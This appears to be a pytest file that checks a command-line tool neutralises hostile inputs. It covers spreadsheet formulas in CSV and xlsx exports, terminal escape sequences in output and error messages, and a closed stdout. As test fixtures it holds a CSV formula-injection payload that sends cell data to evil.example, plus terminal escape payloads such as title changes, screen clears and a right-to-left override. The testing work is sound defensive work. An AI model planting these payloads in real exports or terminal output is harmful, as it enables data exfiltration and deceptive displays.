"""The hostile-input catalogue, second round (issue #27), guards: formulas neutralised in every CSV,
control and escape characters made visible, never executed, in every terminal output and message;
a closed stdout is one line. Run through the real entry point by tests/hostile.py."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

from hostile import KEY_PEOPLE, ROOT, TERMINAL_CONTROLS, Case, both, check_case, unit, write
from hostile_inputs import with_k1

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
# A window title, a clear screen, an OSC-8 link, a C1 CSI and a right-to-left override.
ESCAPES = "\x1b]0;pwned\x07 \x1b[2J \x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \u202eevil"
SDF = (ROOT / "data/raw/sdf/cwdc-skills-development-framework.txt").read_text(encoding="utf-8")


def _no_raw_shown(_: Path, result: subprocess.CompletedProcess) -> None:
    for stream in (result.stdout, result.stderr):
        assert not TERMINAL_CONTROLS.search(stream), repr(TERMINAL_CONTROLS.findall(stream))
    shown = result.stdout + result.stderr
    assert "␛" in shown or "\\x1b" in shown  # shown, not dropped: nothing is lost


def _no_raw_at_all(result: subprocess.CompletedProcess) -> None:
    assert not TERMINAL_CONTROLS.search(result.stdout + result.stderr), result.stderr


def _hostile_unit(name: str = "units/key-people.txt", text: str = FORMULA + " know the " + ESCAPES):
    return lambda tmp: unit(tmp, name, with_k1(text))


def _no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), cell
            assert not re.match(r"\s+[=+\-@]", cell), cell


def _csv_cells(_: Path, result: subprocess.CompletedProcess) -> None:
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert any("HYPERLINK" in c for r in rows for c in r)
    _no_formula_cells(rows)


def _xlsx_cells(name: str):
    def check(tmp: Path, _: subprocess.CompletedProcess) -> None:
        book = zipfile.ZipFile(tmp / name)
        xml = "".join(book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/"))
        assert "<f>" not in xml and "HYPERLINK" in xml  # the text is kept, never a formula
        assert "\\x01" in xml or "\\x1b" in xml  # the control character is shown, not dropped

    return check


def _with_sdf(tmp: Path) -> None:
    unit(tmp, "units/sdf.txt", SDF)


def _with(text: str) -> str:
    return KEY_PEOPLE.replace("P12 implement", f"P12 {text} implement", 1)


def _escaped_name(tmp: Path) -> None:
    unit(tmp, "units/a\x1b]0;title\x07b.txt", _with(ESCAPES))


CASES: dict[str, Case] = {
    # --- formulas in every CSV ---------------------------------------------------------------------
    "streamed crosswalk CSV: a formula in document text": Case(
        ["crosswalk", "nos", "sdf", "--source-corpus", "units", "-f", "csv"],
        lambda t: unit(t, "units/kp.txt", KEY_PEOPLE.replace("P12 implement", "P12 " + FORMULA + " implement", 1)
                       .replace("\nP12 ", "\nP12 ", 1)),
        exit=0, check=_csv_cells),
    # --- terminal output ---------------------------------------------------------------------------
    "show: escape sequences in a criterion": Case(["--corpus", "kp.txt", "show", "nos/kp/P12"], write("kp.txt", _with(ESCAPES)),
                                                  exit=0, stdout="P12", check=_no_raw_shown),
    "search: escape sequences in a hit": Case(["--corpus", "kp.txt", "search", "pwned"], write("kp.txt", _with(ESCAPES)),
                                              exit=0, stdout="nos/kp/P12", check=_no_raw_shown),
    "validate text: escape sequences in a file name and text": Case(["validate", "units"], _escaped_name, exit=1, check=_no_raw_shown),
    "validate github: escape sequences in a file name and text": Case(["validate", "units", "-f", "github"], _escaped_name,
                                                                      exit=1, stdout="::error", check=_no_raw_shown),
    "list: escape sequences in a file name": Case(["--corpus", "units", "list"], _escaped_name, exit=0),
    "an error message quoting a file name with escapes": Case(["--corpus", "a\x1b[2Jb.txt", "list"], stderr="no such file",
                                                              check=_no_raw_shown),
    "diff markdown: escape sequences in a change": Case(["diff", "old.txt", "new.txt", "-f", "markdown"],
                                                        both(write("old.txt", KEY_PEOPLE), write("new.txt", _with(ESCAPES))),
                                                        exit=0, check=_no_raw_shown),
    "statements JSON: C1 and bidi controls escaped": Case(["--corpus", "kp.txt", "statements", "-f", "json"], write("kp.txt", _with(ESCAPES)),
                                                          exit=0, stdout="\\u009b31m"),
    "validate SARIF: escapes in a file name and text": Case(["validate", "units", "-f", "sarif"], _escaped_name,
                                                            exit=1, stdout='"ruleId": "ST08"'),
    "export markdown to stdout: escape sequences": Case(["--corpus", "kp.txt", "export", "-f", "markdown"],
                                                        write("kp.txt", _with(ESCAPES)), exit=0, check=_no_raw_shown),
    "crosswalk text: escape sequences in a source": Case(["--corpus", "units", "crosswalk", "nos", "sdf", "--no-reviews"],
                                                         both(lambda t: unit(t, "units/kp.txt", _with(ESCAPES)), _with_sdf), exit=0,
                                                         stdout="nos/kp/P12", check=_no_raw_shown),
    # --- a closed stdout ---------------------------------------------------------------------------
    "stdout closed (list)": Case(["list"], env={"STDOUT": "closed"}, stderr="standard output is closed"),
    "stdout closed, -o given: runs": Case(["export", "-f", "json", "--framework", "sdf", "-o", "x.json"], env={"STDOUT": "closed"},
                                          exit=0, check=lambda t, _: json.loads((t / "x.json").read_text(encoding="utf-8"))),
    # --- further cases of the class ---------------------------------------------------------------
    "statements CSV: a formula behind spaces": Case(
        ["--corpus", "units", "statements", "-f", "csv"], _hostile_unit(text="  " + FORMULA), exit=0, check=_csv_cells),
    # --- control characters in xlsx ---------------------------------------------------------------
    "crosswalk review workbook: a control character in a heading": Case(
        ["--corpus", "units", "crosswalk", "nos/key-people", "sdf/3", "-f", "xlsx", "-o", "r.xlsx"],
        both(lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA + " a\x01b").replace(" Rights", " Rig\x01hts", 1)), _with_sdf),
        exit=0, check=_xlsx_cells("r.xlsx")),
    "export xlsx: a control character in a criterion and a heading": Case(
        ["--corpus", "units", "export", "-f", "xlsx", "-o", "o.xlsx"],
        lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA + " a\x01b").replace(" Rights", " Rig\x01hts", 1)),
        exit=0, check=_xlsx_cells("o.xlsx")),
    "show: escapes in a section heading": Case(["--corpus", "units", "show", "nos/key-people"],
                                               lambda t: unit(t, "units/key-people.txt", KEY_PEOPLE.replace(" Rights", " Rights" + ESCAPES, 1)),
                                               exit=0, check=_no_raw_shown),
    "an error message naming an id with escapes": Case(["show", "nos/\x1b]0;pwned\x07\x1b[2J"], stderr="no statement or part has the id",
                                                       check=_no_raw_shown),
    "a usage error naming a command with escapes": Case(["\x1b]0;pwned\x07\x1b[2J"], stderr="no such command", check=_no_raw_shown),
    "an OS error naming a path with escapes": Case(["export", "-f", "json", "-o", "o\x1b[2J\x9b/x.json"], stderr="does not exist",
                                                   check=_no_raw_shown),
    "an internal error quoting document text": Case(
        ["--corpus", "units", "crosswalk", "nos/key-people", "sdf/3", "-f", "xlsx", "-o", "r.xlsx"],
        both(lambda t: unit(t, "units/key-people.txt", KEY_PEOPLE.replace(" Rights", " Rights\x1b[2J\x01", 1)), _with_sdf),
        exit=0, check=lambda t, r: _no_raw_at_all(r)),
    # --- a closed stdout ---------------------------------------------------------------------------
    "a closed stdout (validate -f json >&-)": Case(["validate", "units", "-f", "json"], lambda t: unit(t),
                                                   env={"STDOUT": "closed"}, stderr="standard output is closed"),
}  # fmt: skip


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_guard(name: str, tmp_path: Path) -> None:
    check_case(CASES[name], tmp_path)


def test_visible_keeps_text_and_columns() -> None:
    from cwframe.render.visible import json_escaped, visible

    assert visible("plain\ttext\n") == "plain\ttext\n"
    assert visible("a\x1b[2Jb\x07\x9b\u202e") == "a\u241b[2Jb\u2407\ufffd\ufffd"
    assert len(visible(ESCAPES)) == len(ESCAPES)
    assert json.loads(json_escaped(json.dumps(ESCAPES, ensure_ascii=False))) == ESCAPES


def test_review_page_download_guards_formulas_from_prior_decisions(tmp_path: Path) -> None:
    """The page's CSV (JavaScript) neutralises a formula in a note read from --decisions, as every CSV does."""
    node = next((p for p in ("/usr/bin/node", "/usr/bin/nodejs") if os.path.exists(p)), None)
    if node is None:
        pytest.skip("node is not installed; the browser test covers the page")
    from importlib import resources

    script = (resources.files("cwframe.render") / "assets" / "review.js").read_text(encoding="utf-8")
    start = script.index("function csvField(value)")
    end = script.index("\n  }\n", start) + 4
    probe = (
        script[start:end]
        + f"\nprocess.stdout.write(csvField({json.dumps(FORMULA)}) + '|' + csvField('@SUM(1)'));"
    )
    out = subprocess.run([node, "-e", probe], capture_output=True, text=True, check=True).stdout
    assert out == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"|\'@SUM(1)'
